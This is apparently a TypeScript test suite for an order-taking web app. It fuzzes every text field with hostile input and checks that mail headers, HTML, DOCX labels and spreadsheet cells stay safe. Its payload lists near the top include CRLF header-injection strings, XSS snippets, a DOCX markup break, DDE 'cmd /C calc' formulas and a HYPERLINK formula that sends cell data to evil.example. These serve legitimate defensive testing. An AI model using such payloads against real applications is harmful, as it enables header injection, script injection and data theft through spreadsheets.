/**
 * CRLF, HTML and formula text in every text field of every body that takes customer or
 * admin text (both order submissions, order edits, shipping, feedback, push subscriptions,
 * event configuration), sent through HTTP, followed to where the text ends up:
 * - the answer: refused (400; a line break is never silently joined) or accepted, never 5xx,
 *   always in the documented shape;
 * - the mail (receipts with their labels): no header injected, HTML escaped;
 * - the labels: PNG rendered, DOCX XML escaped (no markup injected);
 * - the record and the spreadsheet (written by the mirror): formula text stays text, never a formula.
 */
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import type { LightMyRequestResponse } from 'fastify';
import { unzipSync } from 'fflate';
import { simpleParser } from 'mailparser';
import { describe, expect, test } from 'vitest';
import { OUTBOX_DIR } from '../../src/services/notifier/transports/specs.js';
import { adminHeaders, build, type TestApp, tempDir } from '../helpers/build.js';
import { problemsWith } from '../support/abuse-fuzz.js';
import { type Operation, operations } from '../support/abuse-openapi.js';
import { until } from '../support/mirror-fixtures.js';
import { bodyA, bodyB, EVENT, GOOD_ADDRESS, ORDER_TEST_ENV, writeLibrary } from '../support/orders-fixtures.js';
import { writeServiceAccount } from '../support/sheets-credentials.js';
import { startSheetsEmulator } from '../support/sheets-emulator.js';

const CRLF = [
  'Ada\r\nBcc: victim@example.com',
  'Ada\nX-Injected: yes',
  'Ada\rSubject: pwned',
  'Ada\u2028Bcc: victim@example.com',
];
const HTML = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</w:t></w:r><w:r><w:t>injected'];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];

type Leaf = { path: string[]; value: string };

/** Every string in `value`, with its path. */
function stringLeaves(value: unknown, at: string[] = []): Leaf[] {
  if (typeof value === 'string') return [{ path: at, value }];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringLeaves(v, [...at, String(i)]));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => stringLeaves(v, [...at, k]));
  return [];
}

function withLeaf(value: unknown, leafPath: string[], replacement: string): unknown {
  if (leafPath.length === 0) return replacement;
  const [head, ...rest] = leafPath as [string, ...string[]];
  if (Array.isArray(value)) return value.map((v, i) => (String(i) === head ? withLeaf(v, rest, replacement) : v));
  const obj = value as Record<string, unknown>;
  return { ...obj, [head]: withLeaf(obj[head], rest, replacement) };
}

/** Text inside a field: some fields need their valid start (an email before the @, a number). */
function placed(original: string, hostile: string): string[] {
  return [hostile, `${original}${hostile}`];
}

type Sent = { op: Operation; field: string; value: string; res: LightMyRequestResponse };

/** Sends every example body of the text-taking operations with each string field replaced by each payload. */
async function sendAll(app: TestApp, payloads: string[], orderRef: () => Promise<string>): Promise<Sent[]> {
  const ops = operations();
  const opFor = (method: string, p: string) => ops.find((o) => o.method === method && o.path === p) as Operation;
  const cases: { method: string; path: string; url: () => Promise<string>; body: unknown }[] = [
    {
      method: 'POST',
      path: '/api/orders/create',
      url: async () => '/api/orders/create',
      body: bodyA({ shippingAddress: GOOD_ADDRESS }),
    },
    { method: 'POST', path: '/api/orders', url: async () => '/api/orders', body: bodyB() },
    {
      method: 'PUT',
      path: '/api/orders/{id}',
      url: async () => `/api/orders/${await orderRef()}`,
      body: {
        customerName: 'Ada King',
        customerEmail: 'ada@example.com',
        customerPhone: '555-010-0000',
        ...{ shippingAddress: '1 Main St', city: 'Springfield', state: 'IL', zipCode: '62701' },
      },
    },
    {
      method: 'POST',
      path: '/api/orders/{id}/update-shipping',
      url: async () => `/api/orders/${await orderRef()}/update-shipping`,
      // printAll: the prints are in the parcel, so the tracking number is what is checked.
      body: { trackingNumber: '1Z999', printAll: true },
    },
    {
      method: 'POST',
      path: '/api/orders/{orderNumber}/feedback',
      url: async () => `/api/orders/${await orderRef()}/feedback`,
      body: { feedback: 'Lovely' },
    },
    {
      method: 'PUT',
      path: '/api/event-config',
      url: async () => '/api/event-config',
      body: { eventSlug: EVENT, prices: { '4x6': 5, '5x7': 10, '8x10': 20 } },
    },
  ];
  const sent: Sent[] = [];
  for (const c of cases) {
    // One order per operation: edits, shipping and feedback all land on it.
    const url = await c.url();
    for (const leaf of stringLeaves(c.body)) {
      for (const payload of payloads) {
        for (const value of placed(leaf.value, payload)) {
          const res = await app.inject({
            method: c.method as 'POST',
            url,
            headers: adminHeaders,
            payload: withLeaf(c.body, leaf.path, value) as object,
          });
          sent.push({ op: opFor(c.method, c.path), field: `${c.method} ${c.path} ${leaf.path.join('.')}`, value, res });
        }
      }
    }
  }
  return sent;
}

function expectAnswered(sent: Sent[]): void {
  for (const s of sent) {
    expect(s.res.statusCode, `${s.field} = ${JSON.stringify(s.value)}: ${s.res.body.slice(0, 200)}`).toBeLessThan(500);
    expect(problemsWith(s.op, s.res), `${s.field} = ${JSON.stringify(s.value)}`).toEqual([]);
  }
}

async function mailFiles(dataDir: string): Promise<{ raw: string; html: string; headerNames: string[] }[]> {
  const dir = path.join(dataDir, OUTBOX_DIR);
  const names = (await readdir(dir).catch(() => [] as string[])).filter((n) => n.endsWith('.eml'));
  return Promise.all(
    names.map(async (n) => {
      const raw = await readFile(path.join(dir, n), 'utf8');
      const head = raw.slice(0, raw.indexOf('\r\n\r\n'));
      // Unfold continuation lines; what is left, one per line, is the header list.
      const headerNames = head
        .replace(/\r\n[ \t]/g, ' ')
        .split('\r\n')
        .map((l) => l.slice(0, l.indexOf(':')).toLowerCase());
      const parsed = await simpleParser(raw);
      return { raw, html: typeof parsed.html === 'string' ? parsed.html : '', headerNames };
    }),
  );
}

describe('hostile text in every text field', () => {
  test('CRLF and HTML: line breaks refused in one-line fields; mail headers intact, HTML and DOCX escaped', {
    timeout: 120_000,
  }, async (t) => {
    const dataDir = await tempDir(t);
    await writeLibrary(path.join(dataDir, 'photos'));
    const app = await build(t, { dataDir, env: { ...ORDER_TEST_ENV, OPERATOR_EMAIL: 'booth@example.com' } });
    // Edits go to a fresh order each time (a shipped or edited one would change what is allowed).
    const orderRef = async () => {
      const res = await app.inject({
        method: 'POST',
        url: '/api/orders/create',
        headers: adminHeaders,
        payload: bodyA(),
      });
      return (res.json() as { orderNumber: string }).orderNumber;
    };
    // A paid order, so that update-shipping gets as far as the tracking number.
    const paidRef = async () => {
      const n = await orderRef();
      await app.inject({
        method: 'POST',
        url: `/api/orders/${n}/update-status`,
        headers: adminHeaders,
        payload: { status: 'paid' },
      });
      return n;
    };
    const sent = [...(await sendAll(app, CRLF, orderRef)), ...(await sendAll(app, HTML, async () => paidRef()))];
    expectAnswered(sent);

    // A line break is never joined into a one-line field: refused (400; 404 where the field
    // names something to look up, such as the event). Feedback is multi-line by design.
    const oneLine = sent.filter((s) => CRLF.some((c) => s.value.endsWith(c)) && !s.field.endsWith(' feedback'));
    expect(oneLine.length).toBeGreaterThan(40);
    for (const s of oneLine) {
      const lookup = /eventSlug|photos/.test(s.field);
      expect(s.res.statusCode, `${s.field} = ${JSON.stringify(s.value)}`).toBe(
        lookup && s.res.statusCode === 404 ? 404 : 400,
      );
    }
    const acceptedHtml = sent.filter((s) => s.res.statusCode < 300 && HTML.some((h) => s.value.includes(h)));
    expect(acceptedHtml.length).toBeGreaterThan(5);
    // What was accepted is kept as given (the API returns it, JSON-encoded).
    const named = acceptedHtml.find(
      (s) => s.field.endsWith('customerInfo.name') && s.value === '<script>alert(1)</script>',
    );
    if (!named) throw new Error('the HTML name was not accepted');
    expect(named.res.json()).toMatchObject({ success: true });
    const orderNumber = (named.res.json() as { orderNumber: string }).orderNumber;
    const stored = await app.inject({ url: `/api/orders/${orderNumber}`, headers: adminHeaders });
    expect(stored.json().customerName).toBe('<script>alert(1)</script>');
    expect(stored.headers['content-type']).toMatch(/^application\/json/);

    // Labels of every order: PNG renders, DOCX has the text as text.
    const list = async (which: string) =>
      (await app.inject({ url: `/api/orders/${which}`, headers: adminHeaders })).json() as { orderNumber: string }[];
    const numbers = [...(await list('pending')), ...(await list('completed'))].map((o) => o.orderNumber);
    expect(numbers.length).toBeGreaterThan(10);
    let escapedSeen = 0;
    for (const n of numbers) {
      const png = await app.inject({ url: `/api/orders/${n}/envelope/png`, headers: adminHeaders });
      expect(png.statusCode, n).toBe(200);
      expect(png.headers['content-type']).toBe('image/png');
      const docx = await app.inject({ url: `/api/orders/${n}/envelope/docx`, headers: adminHeaders });
      expect(docx.statusCode, n).toBe(200);
      const xml = Buffer.from(unzipSync(docx.rawPayload)['word/document.xml'] as Uint8Array).toString('utf8');
      expect(xml).not.toContain('<script>');
      expect(xml).not.toContain('<img src=x');
      expect(xml).not.toMatch(/<w:t[^>]*>injected/);
      if (xml.includes('&lt;script&gt;') || xml.includes('&lt;/w:t&gt;')) escapedSeen++;
    }
    expect(escapedSeen).toBeGreaterThan(0);

    // Every mail: the headers a message should have, nothing injected; HTML escaped.
    await app.notifier.flush();
    const mails = await mailFiles(dataDir);
    expect(mails.length).toBeGreaterThan(10);
    for (const m of mails) {
      expect(m.headerNames).not.toContain('bcc');
      expect(m.headerNames).not.toContain('x-injected');
      expect(m.headerNames.filter((h) => h === 'subject')).toHaveLength(1);
      expect(m.headerNames.filter((h) => h === 'to')).toHaveLength(1);
      expect(m.html).not.toContain('<script>alert(1)</script>');
      expect(m.html).not.toContain('<img src=x');
    }
    expect(mails.some((m) => m.html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'))).toBe(true);
  });

  // The spreadsheet is written by the mirror (docs/store.md, "For the mirror"), which is not in
  // this version: with ORDER_STORE=sheets orders are kept in the record, formula text as the
  // text it is, and the sheet is left alone. The mirror's tests assert its cells (RAW writes).
  test('formula text is kept as text in the record and stored in the spreadsheet as text, never as a formula', {
    timeout: 120_000,
  }, async (t) => {
    const emu = await startSheetsEmulator();
    t.onTestFinished(() => emu.close());
    const spreadsheetId = emu.createSpreadsheet({ sheets: ['Orders'] });
    const account = await writeServiceAccount(await tempDir(t));
    const dataDir = await tempDir(t);
    await writeLibrary(path.join(dataDir, 'photos'));
    const app = await build(t, {
      dataDir,
      env: {
        ...ORDER_TEST_ENV,
        ORDER_STORE: 'sheets',
        GOOGLE_SHEETS_ID: spreadsheetId,
        GOOGLE_APPLICATION_CREDENTIALS: account.file,
        GOOGLE_SHEETS_ROOT_URL: emu.rootUrl,
      },
    });
    expect(app.store.engine).toBe('sqlite');
    const orderRef = async () => {
      const res = await app.inject({
        method: 'POST',
        url: '/api/orders/create',
        headers: adminHeaders,
        payload: bodyA(),
      });
      expect(res.statusCode, res.body).toBe(201);
      return (res.json() as { orderNumber: string }).orderNumber;
    };
    const sent = await sendAll(app, FORMULAS, orderRef);
    expectAnswered(sent);
    const accepted = sent.filter((s) => s.res.statusCode < 300);
    expect(accepted.length).toBeGreaterThan(10);

    // Every text field of every order, as the record gives it back: the formulas verbatim.
    const texts = new Set<string>();
    for (const o of await app.store.orders.list({ includeHeld: true })) {
      for (const leaf of stringLeaves(o)) texts.add(leaf.value);
    }
    const flat = [...texts].join('\n');
    for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
      expect(flat, f).toContain(f);
    }
    // The mirror writes every order (RAW): every cell of the Orders tab, no formula anywhere.
    await until(async () => (await app.store.mirror.pendingCount()) === 0, 20_000, 'every order mirrored');
    const rows = emu.getValues(spreadsheetId, 'Orders!A1:AZ2000', 'FORMULA');
    expect(rows.length).toBeGreaterThan(accepted.length / 2);
    const cellsWithFormula: string[] = [];
    const cellTexts = new Set<string>();
    rows.forEach((row, r) => {
      row.forEach((_, c) => {
        const ref = `'Orders'!${String.fromCharCode(65 + (c % 26)).padStart(c >= 26 ? 2 : 1, 'A')}${r + 1}`;
        const cell = emu.cell(spreadsheetId, ref);
        if (cell?.formula) cellsWithFormula.push(`${ref} ${cell.formula}`);
        if (typeof cell?.value === 'string') cellTexts.add(cell.value);
      });
    });
    expect(cellsWithFormula).toEqual([]);
    const sheetText = [...cellTexts].join('\n');
    for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
      expect(sheetText, f).toContain(f);
    }
    // Every write of cell values is RAW (the tab's widening past column Z writes none).
    const valueWrites = emu.writeLog.filter((w) => w.method !== 'spreadsheets.batchUpdate');
    expect(valueWrites.length).toBeGreaterThan(0);
    expect(valueWrites.every((w) => w.valueInputOption === 'RAW')).toBe(true);
  });
});
